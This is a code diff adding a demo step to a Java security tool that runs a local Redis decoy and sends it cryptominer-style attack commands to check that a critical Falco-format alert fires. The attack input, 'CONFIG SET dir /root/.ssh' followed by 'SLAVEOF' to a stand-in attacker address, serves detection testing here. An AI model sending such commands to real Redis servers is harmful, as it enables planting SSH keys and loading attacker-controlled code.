@@ -140,6 +140,25 @@ final class DemoCommand implements Callable<Integer> {
     }
     out.println("    drift found as expected (exit code " + drift.failure().exitCode() + "): " + drift.message());
 
+    out.println("10. Running a Redis decoy on 127.0.0.1 and attacking it the way a cryptominer would (CONFIG SET dir, SLAVEOF)");
+    List<dev.moat.decoy.Alert> alerts = new java.util.concurrent.CopyOnWriteArrayList<>();
+    try (dev.moat.decoy.DecoyServer decoys = new dev.moat.decoy.DecoyServer(dev.moat.decoy.DecoyLimits.defaults(), alerts::add,
+        java.time.Clock.systemUTC())) {
+      int port = decoys.start(List.of(new dev.moat.decoy.DecoyServer.Listener(new dev.moat.decoy.DecoyIdentity("payments-cache", "redis",
+          null, null), new dev.moat.decoy.RedisDecoy(), "127.0.0.1", 0))).get("payments-cache");
+      out.println("    decoy payments-cache (redis) listening on 127.0.0.1:" + port);
+      try (java.net.Socket attacker = new java.net.Socket("127.0.0.1", port)) {
+        attacker.setSoTimeout(10_000);
+        attacker.getOutputStream().write("CONFIG SET dir /root/.ssh\r\nSLAVEOF 203.0.113.7 6379\r\nQUIT\r\n".getBytes(StandardCharsets.US_ASCII));
+        attacker.getInputStream().readAllBytes();
+      }
+    }
+    dev.moat.decoy.Alert critical = alerts.stream().filter(a -> a.severity() == dev.moat.decoy.AlertSeverity.CRITICAL).findFirst()
+        .orElseThrow(() -> new MoatException(Failure.INTERNAL, "the decoy raised no critical alert", ""));
+    out.println("    " + alerts.size() + " alerts, " + alerts.stream().filter(a -> a.severity() == dev.moat.decoy.AlertSeverity.CRITICAL).count()
+        + " critical; the first, as Falco JSON (what `moat decoy serve` writes to stdout):");
+    out.println("    " + dev.moat.decoy.FalcoJsonAlerts.line(critical, "demo"));
+
     out.println();
     out.println("Done. Files are in " + dir.toAbsolutePath() + ":");
     out.println("  source/    the image and its signatures (tags demo, " + image.digest().tagForm() + ".sig, " + image.digest().tagForm() + ")");
@@ -150,6 +169,7 @@ final class DemoCommand implements Callable<Integer> {
     out.println("  policies/  the whitelist as enforcer policies: "
         + String.join(", ", learned.reports().stream().skip(1).map(p -> p.getFileName().toString()).toList()));
     out.println("Try: ./moat verify oci:" + dir.resolve("mirror") + ":demo --key " + mirror.publicKey());
+    out.println("     ./moat decoy serve --decoy redis:16379   (then: redis-cli -p 16379 CONFIG SET dir /tmp)");
     out.println("     ./moat whitelist export " + whitelistFile + " --format kubearmor --selector app=demo --namespace shop");
     out.println("     ./moat whitelist check " + whitelistFile + " --events " + events + "   (exit 20: /tmp/dropped is drift)");
     return 0;
